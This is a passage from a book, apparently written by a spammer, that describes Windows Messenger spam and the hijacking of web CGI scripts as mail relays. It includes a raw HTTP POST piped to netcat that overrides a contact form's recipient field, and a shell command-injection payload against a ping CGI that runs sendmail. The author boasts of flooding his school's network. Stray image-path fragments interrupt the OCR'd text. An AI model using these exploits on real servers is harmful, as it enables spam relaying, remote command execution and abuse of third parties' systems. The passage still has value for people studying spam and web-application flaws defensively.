thespam.

Only recent versions of Windows XP (SP2) will actively disable this service at boot time. Given the number of machines not running Windows XP SP2, the messenger service is currently running on millions of computers all over the world.

Notes from the Underground…

Discovering the Messenger Service

In my early days of high school mischief, I discovered that the messenger service was running on every computer in every lab in the school. I used a previously compromised machine to send a broadcasted message to the entire network with my own personal propaganda message, something like, “Hello you freaks. Enjoying the boredom that is school?”

Sadly, the Information Technology (IT) technician suspected me, ran into the class I was in at the time and caught me, and reported me to the headmaster. I received a week’s detention and narrowly missed expulsion for my actions. I was fairly upset, so the next week, in the classic mentality of rebellious youth, I removed my high school’s Internet access by flooding their system with very large amounts of TCP packets containing bogus content. This saturated their bandwidth and disabled all Internet connectivity.

The ability to send Messenger messages is possibly the most trivial for any type of spam. Windows ships its own RPC tool “net” that has the functionality to spam messages to any IP directly or broadcast messages to a subnet (see Figure 3.6).

click to expand
Figure 3.6: Everywhere You Look, There It Is

Third-party applications have made it even easier to send Messenger spam. Figure 3.7 shows a commercial application that sells for $99.00 that will send billions of alert messages to any IP range. You could easily enter a range tocover the entire Internet, sending every user running Messenger your message.

click to expand
Figure 3.7: Net Send on a Large Scale

There are significant disadvantages in sending RPC-based messenger spam. The first is that it was never designed to be interactive and there is no way for the user to click on a button or link. This requires the user to proactively launch an Internet browser and type their “promotion” URL. This missing feature is the reason messenger spam is less preferred compared to other spam mediums. Advertisers need users to have the ability to click on a link and not be required to do any “real work.” Having said this, there is still a demand for Messenger spam in some situations.

Imagine that you are sitting at your desk playing with your new computer. You are very new to computers and just starting to find your way around theInternet. A message box suddenly appears, “Hi its Sarah here. Want to chat?” A new or inexperienced Internet user might think Sarah really wants to talk to them. This social trickery may lure the user to a Web site;, therefore, the spam has worked.

A messenger window appears to be something written personally to you. There is a certain lure of mystery in an anonymous message popping up, telling you some cryptic message or pointing you at some unknown Web site. Movies such as The Matrix have implanted a curious desire to have someone reach into our life and tell you something like, “The matrix has you.” I think this is the major reason Messenger and IM spam works; because they are able to get through to the user.

Common Gateway Interface HijackingCommon Gateway Interface (CGI) hijacking is a popular method of sending spam. It provides the spammer with an easy, undetectable, and smooth method of e-mail delivery. The idea is simple: hijack an existing CGI script and use it to send e-mail. The scripts’ original purpose can be almost anything; an existing mail script, network diagnostics, or message board. It is possible to turn any script into your own personal spamming script with a little expertise and patience. The hijacking process takes place by injecting or controlling configuration variables or user-input fields, with the intent to change how the application functions.

Take the following Web page for example:

<html> <head> <title>E-Mail Contact = Comments and/or Suggestions</title> <base href=""> </head> <h2><i>EMAIL ME</i></h2></td> <p> I would like to hear from you and appreciate your comments and suggestions.  Please make sure you supply correct information so that I can respond as appropriate.  Completion of all fields is required, otherwise this form cannot be submitted and the form <i>may</i> be returned blank.  <p> <hr> <form method="POST" action=""> <input type="hidden" name="recipient" value=""> <input type="hidden" name="required" value="realname, subject, email"> <p> <b>Name (First & Last)</b>  <input type="text" name="realname" size="30" maxlength="50"><br> <b>Email (so I can answer if applicable)</b>  <input type="text" name="email" size="30" maxlength="50"><br> <b>Subject/In Reference to (Page/URL)</b>  <input type="text"name="subject" size="50" maxlength="75"><br> <b>Message</b><br> <textarea name="Text" rows="10"cols="55"></textarea> <p> <input type="submit" value="Submit Now (Thank you!)"> </form> <p>

In this example, we have an HTML page for a “contact me” Web page. It’s simple enough; you enter your comments, real name, subject, and reply address then hit Submit. This is then posted to /fl/cgi-bin/ak-mail.cgi.

This would then parse your data and send an e-mail to the Webmaster with your comments. By looking at the hidden HTML variables, however, I can see much more scope to this script.

<input type="hidden" name="recipient" value=""> <input type="hidden" name="required" value="realname, subject, email">

The “required” variable looks like a list of what the required fields are. If you miss any of these fields, the script will present you with a Web page that says, “You didn’t fill out all the required fields.” The “recipient” variable is self-explanatory: who gets the e-mail. This is a classic example of how not to write code. A Web developer likely wrote this script unaware that a spammer was going to dissect the work and use it to their advantage.

If you have not spotted the flaws already, this script is very easy to exploit for spam. We can turn this script into our own “secret” mail gateway. The flaws exist in the user-defined recipient variable. This variable is not hard-coded inside the script and is instead defined by the user when posting to the script with the form data. All I would have todo is POST to the script with my own recipient variable andthe server will send a message to that e-mail address instead of the Webmaster.

I would write a small netcat (nc) script that will POST my own variables of text, subject, and recipient. This will cause the Web server to send my comments to my defined recipient address. My comments will be my spam message, an irresistible offer to buy Viagra, Xennax, and Propecia. My script would be as follows:

[root@spammerx root]# cat spam_post    POST /fl/cgi-bin/ak-mail.cgi HTTP/1.0   Accept: image/gif, image/x-xbitmap, image/jpeg, image/pjpeg,  application/x-shockwave-flash, */* Referer:   Accept-Language: es   Content-Type: application/x-www-form-urlencoded   Connection: Close   User-Agent: Windows   Host:   Content-Length: 152   Pragma: no-cache, subject,  email&realname=SpammerX&cow this is  wild&Text=Keen to try Viagra?, Xennax? Maybe Propecia?  [root@spammerx root]# cat spam_post | nc 80

nc is a great utility that makes sending my crafted HTTP POST to very easy. This POST should send an e-mail from with my spam message as the body. All mail headers should show that the message came from (See Figure 3.8.)

click to expand
Figure 3.8: The Spam Arrives

A complete success! I have turned into my own personal mail relay. By sending it individual POST requests I can use it to send large volumes of spam. If I was worried about my requests showing up in the HTTP logs (with my real IP address) I could easily use a proxy server to send the POST requests. This proxy could even be an RBL-listed proxy server, since I would only be using it to conceal my source IP address from’s Web server logs. The mail will always come from The only downside is the first line in the message, “Spammer X wrote.” It would seem the script writes into the e-mail message the “Real name” variable, probably as a reference to whom the comments came from. This is very common with CGI hijacking; it’s easy to spot spam sent using this method as it often has an out-of-context beginning such as:

On 04/02/04 user submitted the following comments --- Buy VIAGRA NOW!!

This is a clear indication that the e-mail originated froman exploited CGI or Web application. The spammer was unable to control the beginning of the message, and the script added in its own text before the user’s comments. There is nothing to remedy this. In most cases, spammers don’t care as long as the mail reaches itsdestination.

The amount of custom “Contact us” scripts written and running on the Internet that are vulnerable to such simple attacks would shock you. I found the previous example on the first page of a Google search for “Contact us e-mail.” Almost every Web site has e-mail functionality and with a little patience it is easy to turn these scripts into e-mail relays

One of the largest and most problematic scripts to suffer from being an e-mail relay is written by Matt Wright. FormMail is a widely used script that takes data from a form and turns it into an e-mail. It is used all over the Internet as a method of sending contact or feedback information back to a Web site author.

start sidebar
Tricks of the Trade…FormMail v.1.6

In late 2002, a security flaw in version 1.6 of FormMail surfaced. This flaw allowed anyone to make FormMail send an e-mail to any recipient with any message. FormMail installations instantly became spam gateways, turning thousands of Web servers into anonymous mail relays for spammers. The flaw was as simple as specifying a different recipient when you POST form data to the script, much like the exploit I previously demonstrated.

By v1.6 of FormMail, hundreds of thousands of Web sites were running the script. They all took part in a huge tidal wave of spam sent by millions of spammers exploiting the vulnerability.

end sidebar

To make matters even worse (for the systems administrator), it’s very hard to tell that your innocent CGI scripts are being used as an e-mail relay until you find 10 million bounced messages in your Web server’s inbox or when you notice your server blacklisted in every RBL. Without actively monitoring your network for SMTP traffic, you have no real way of finding out that your innocentscript is causing so much havoc. Servers running FormMail could be sending spam for weeks without anyone knowing.

Now, we are going to look at another script that is totally unrelated to e-mail, to show how practically any CGI script is able of being an e-mail relay given some creative encouragement.<html> <head> <title>Ping a host.</title> </head> <p> Enter the host IP you would like to ping and press go!  <p> <hr> <form method="POST" action=""> <p> <b>Host</b>  <input type="text" name="host" size="20" maxlength="50"><br> <input type="submit" value="Go!"> </form> <p>

I found this page on a small American-based ISP. The script is for testing your network connectivity or the connectivity of another host. You enter the host IP, press Go, and theserver runs the ping command on the server then shows you the output. Seems harmless enough, but let’s see if we can get some more information about not only the script, but also the host operating system. The script with a .pl extension would look like aPerl-based script, and an HTTP head request tells me the server is Linux based.

HEAD / HTTP/1.0     HTTP/1.1 200 OK   Date: Mon, 05 Jul 2004 01:31:19 GMT   Server: Apache/2.0.45 (Unix) PHP/4.3.6

By submitting as the host, we can make the server ping itself. It’s not very useful but can be handy.

Pinging [] with 32 bytes of data:   Reply from bytes=32 time<1ms TTL=128   ...

Judging by the script output, I assume that the script is using the raw ping binary to perform the ping and not a custom library, since it uses the exact same layout for output as the ping binary. The script probably looks something like this:#!/usr/bin/perl     if($host = "" ) {                         # host is blank?   print("please enter a host to ping");     # if so, go away   exit;                               # Call exit   } else {                                    # if its not blank          $ping_data = `/bin/ping $host`;      # run /bin/ping $host          print($ping_data);                   # print the return          exit;# exit   }

Can you spot the exploit to turn this script into our mail relay? Actually, if this problem exists we can use it to give us a remote shell on the server and do more damage, but we will focus on sending spam. If we attempt to ping this IP:

localhost;echo "Viagra? Xennax?" |  /usr/sbin/sendmail

the server will ping itself, and then by specifying a command separator character (semicolon in UNIX) we can force the server to run our command when finished with the ping. This command will echo a spam message to send mail, which will then send it to my e-mail address (see Figure 3.9).

click to expandFigure 3.9: CGI Injection Example #2

As you can see in the message headers, the message originated from and was sent using sendmail 8.12.10. Security flaws like this are not common, but they do exist heavily around the Internet in all sorts of CGIs. I often see this type of flaw in the smallest, quickest scripts, things people give no thought to when they write. Thisping script is a prime example.

start sidebar
Tricks of the Trade…Security Flaws

Finding out about newly discovered security flaws is easy. I personally subscribe to three large security mailing lists, so I am always in the loop with new exploits or techniques as they emerge, although it does result in receiving over 100 e-mails a day from the various lists.

end sidebar

Using a CGI script to send spam is my preferred method of spamming. It accomplishes a great delivery rate and the hosts tend to last longer than proxy servers—high life time equals more spam sent. The best thing about using a script to send e-mail is how legitimate the host looks. They have no obvious proxy or relay running and they are usually legitimate companies with real reverse Domain Name System (DNS) entries and sensible hostnames. You can’t get much better than that. If you send a small amount of spam from a collection of hijacked scripts, the hosts have a chance of lasting a very long time and could possibly send millions of messages until being blacklisted.

Wireless Spam

Imagine you are sitting athome surfing the Internet. You notice that the Internet is going slowly and are shocked to find your router is sending out over 1meg of traffic a second. You instantly unplug it and begin trying to track down the source of the network congestion. I bet wireless is not the first thing you think of; you would probably look for a worm or virus, right?

Notes from the Underground…

